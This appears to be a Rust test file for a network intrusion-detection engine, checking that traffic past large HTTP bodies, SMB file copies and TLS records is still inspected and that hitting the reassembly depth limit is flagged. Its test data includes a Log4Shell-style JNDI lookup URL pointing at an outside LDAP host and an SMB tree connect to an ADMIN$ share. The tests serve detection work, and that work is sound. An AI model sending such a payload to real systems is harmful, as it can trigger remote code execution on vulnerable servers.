//! How much of a connection is read: what nobody reads does not count, and where reading ends the flow says so.

use super::{C, FIRST, Outcome, S, Talk, capture, read};
use serde_json::Value;
use shrike::metrics::Counter;

/// Bytes of a side that are read, as the settings have it where nobody says otherwise.
const DEPTH: usize = 1 << 20;

/// A connection of which both sides go on where they were.
struct Long {
    talk: Talk,
    at: [i64; 2],
}

impl Long {
    fn new(client_port: u16) -> Long {
        Long { talk: Talk::open(client_port), at: [0; 2] }
    }

    /// In segments, acknowledged now and then.
    fn say(&mut self, side: usize, bytes: &[u8]) -> &mut Long {
        for (index, segment) in bytes.chunks(1400).enumerate() {
            self.talk.say(side, self.at[side], self.at[1 - side], segment);
            self.at[side] += segment.len() as i64;
            if index % 16 == 15 {
                self.talk.say(1 - side, self.at[1 - side], self.at[side], b"");
            }
        }
        self
    }

    fn events(&mut self) -> (Vec<Value>, Outcome) {
        let [sent, got] = self.at;
        self.talk.close(sent, got);
        let (outcome, lines) = read(capture(&[&self.talk]), 1);
        (lines.iter().map(|line| serde_json::from_str(line).expect("JSON")).collect(), outcome)
    }
}

fn flow(events: &[Value]) -> &Value {
    let mut flows = events.iter().filter(|event| event["event_type"] == "flow");
    flows.next().filter(|_| flows.next().is_none()).expect("one flow")
}

fn chunked(body: &[u8], size: usize) -> Vec<u8> {
    let chunk = |chunk: &[u8]| [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat();
    [body.chunks(size).flat_map(chunk).collect(), b"0\r\n\r\n".to_vec()].concat()
}

const EXPLOIT: &str = "/?x=${jndi:ldap://203.0.113.9/a}";

#[test]
fn what_is_passed_over_hides_nothing_behind_it() {
    let body = vec![b'x'; 2 * DEPTH];
    let answer = b"HTTP/1.1 204 No Content\r\n\r\n".to_vec();
    let plain = |head: &str| format!("{head}Content-Length: {}\r\n\r\n", body.len()).into_bytes();
    let pieces = |head: &str| format!("{head}Transfer-Encoding: chunked\r\n\r\n").into_bytes();
    let (get, post, ok) = ("GET /a HTTP/1.1\r\nHost: h\r\n", "POST /a HTTP/1.1\r\nHost: h\r\n", "HTTP/1.1 200 OK\r\n");
    let get_all = format!("{get}\r\n").into_bytes();
    let many = |head: &str| {
        let one = [format!("{head}Content-Length: 1300\r\n\r\n").as_bytes(), &body[..1300]].concat();
        one.repeat(2 * DEPTH / 1300)
    };
    for (name, request, response) in [
        ("a body", get_all.clone(), [plain(ok), body.clone()].concat()),
        ("large chunks", get_all.clone(), [pieces(ok), chunked(&body, 8192)].concat()),
        ("chunks of a segment", get_all.clone(), [pieces(ok), chunked(&body, 1000)].concat()),
        ("a body that is sent", [plain(post), body.clone()].concat(), answer.clone()),
        ("chunks that are sent", [pieces(post), chunked(&body, 300)].concat(), answer.clone()),
        ("many small bodies", get_all.repeat(2 * DEPTH / 1300), many(ok)),
    ] {
        let mut long = Long::new(40_101);
        long.say(C, &request).say(S, &response);
        long.say(C, format!("GET {EXPLOIT} HTTP/1.1\r\nHost: h\r\n\r\n").as_bytes()).say(S, &answer);
        let (events, outcome) = long.events();
        assert!(events.iter().any(|event| event["http"]["url"] == EXPLOIT), "{name}");
        assert_eq!(
            (&flow(&events)["ml"]["unread"], outcome.count(Counter::InspectDepthReached)),
            (&Value::Null, 0),
            "{name}"
        );
    }
}

#[test]
fn a_copied_file_hides_no_share() {
    let message = |command: u8, id: u8, is_response: bool, body: &[u8]| {
        let head =
            [&b"\xfeSMB\x40\0\0\0\0\0\0\0"[..], &[command, 0, 1, 0, u8::from(is_response), 0, 0, 0, 0, 0, 0, 0, id]];
        let rest = [&[0; 7][..], &[0xff, 0xfe, 0, 0, 5, 0, 0, 0, 0x11, 0, 0, 4, 0, 0x10, 0, 0], &[0; 16], body];
        let message = [head.concat(), rest.concat()].concat();
        [&(message.len() as u32).to_be_bytes()[..], &message].concat()
    };
    let dialects = [&[36, 0, 1, 0, 1, 0, 0, 0, 0x7f, 0, 0, 0][..], &[0xab; 16], &[0; 8], &[2, 2]].concat();
    let chosen = [&[65, 0, 1, 0, 2, 2, 0, 0][..], &[0xcd; 16], &[0; 40]].concat();
    let path: Vec<u8> = "\\\\dc1\\ADMIN$".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let tree = [&[9, 0, 0, 0, 72, 0, path.len() as u8, 0][..], &path].concat();
    for (bytes, way) in [(60_000, C), (20_000, C), (60_000, S), (20_000, S)] {
        let mut long = Long::new(40_102);
        long.say(C, &message(0, 0, false, &dialects)).say(S, &message(0, 0, true, &chosen));
        let (size, data) = ((bytes as u32).to_le_bytes(), vec![0x55; bytes]);
        let [write, read] = [
            message(9, 1, false, &[&[49, 0, 112, 0][..], &size, &[0; 40], &data].concat()),
            message(8, 1, true, &[&[17, 0, 80, 0][..], &size, &[0; 8], &data].concat()),
        ];
        for _ in 0..5 * DEPTH / 2 / bytes {
            if way == C {
                long.say(C, &write).say(S, &message(9, 1, true, &[17; 16]));
            } else {
                long.say(C, &message(8, 1, false, &[49; 48])).say(S, &read);
            }
        }
        long.say(C, &message(3, 2, false, &tree))
            .say(S, &message(3, 2, true, &[16, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]));
        let (events, _) = long.events();
        assert!(events.iter().any(|event| event["smb"]["share"] == "\\\\dc1\\ADMIN$"), "{bytes} {way}");
        assert_eq!(flow(&events)["ml"]["unread"], Value::Null, "{bytes} {way}");
    }
}

/// Behind its hellos nothing of it is looked at, however long it is.
#[test]
fn what_is_encrypted_reaches_no_depth() {
    let record = |kind: u8, body: &[u8]| [&[kind, 3, 3], &(body.len() as u16).to_be_bytes()[..], body].concat();
    let hello = |kind: u8, rest: &[u8]| {
        let body = [&[3, 3][..], &[7; 32], &[0], rest].concat();
        record(22, &[&[kind, 0, 0, body.len() as u8], &body[..]].concat())
    };
    let mut long = Long::new(40_103);
    long.say(C, &hello(1, &[0, 2, 0x13, 1, 1, 0])).say(S, &hello(2, &[0x13, 1, 0]));
    let records = record(23, &vec![0x99; 16_000]).repeat(2 * DEPTH / 16_000);
    long.say(S, &records).say(C, &records);
    let (events, outcome) = long.events();
    assert_eq!(flow(&events)["app_proto"], "tls");
    assert_eq!((&flow(&events)["ml"]["unread"], outcome.count(Counter::InspectDepthReached)), (&Value::Null, 0));
}

#[test]
fn where_reading_ends_the_flow_says_so_and_the_other_side_is_read() {
    let request = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: h\r\n\r\n").into_bytes();
    let field = format!("X-A: {}\r\n", "a".repeat(1900));
    let long_request = format!("GET /long HTTP/1.1\r\nHost: h\r\n{field}\r\n").into_bytes();
    let (ok, long_ok) = ("HTTP/1.1 204 No Content\r\n\r\n", format!("HTTP/1.1 204 No Content\r\n{field}\r\n"));
    for (client, server, is_told) in [(long_request, ok, false), (request("/short"), long_ok.as_str(), true)] {
        let mut long = Long::new(40_104);
        for _ in 0..DEPTH / 1900 + 2 {
            long.say(C, &client).say(S, server.as_bytes());
        }
        long.say(C, &request(EXPLOIT)).say(S, server.as_bytes());
        let (events, outcome) = long.events();
        let flow = flow(&events);
        assert_eq!(flow["ml"]["unread"], serde_json::json!(["depth_reached"]), "{is_told} {flow}");
        let anomalies = events.iter().filter(|event| event["anomaly"]["event"] == "stream.reassembly_depth_reached");
        assert_eq!((anomalies.count(), outcome.count(Counter::InspectDepthReached)), (1, 1), "{is_told}");
        assert_eq!(events.iter().any(|event| event["http"]["url"] == EXPLOIT), is_told);
    }
}

/// A SYN with a connection's own numbers is nothing new, however much was passed over since.
#[test]
fn a_resent_syn_is_known_behind_a_body() {
    let mut long = Long::new(40_105);
    let body = vec![b'x'; 50_000];
    long.say(C, b"GET /a HTTP/1.1\r\nHost: h\r\n\r\n")
        .say(S, b"HTTP/1.1 200 OK\r\nContent-Length: 50000\r\n\r\n")
        .say(S, &body);
    long.talk.frame(S, "sa", -1, 0, b"").frame(C, "s", -1, 0, b"").frame(S, "sa", -1, 0, b"");
    let (events, outcome) = long.events();
    assert_eq!((outcome.count(Counter::OpeningsOnLive), outcome.count(Counter::FlowsCreated)), (0, 1));
    assert!(FIRST[C] > 0 && flow(&events)["tcp"]["state"] == "closed", "{events:?}");
}
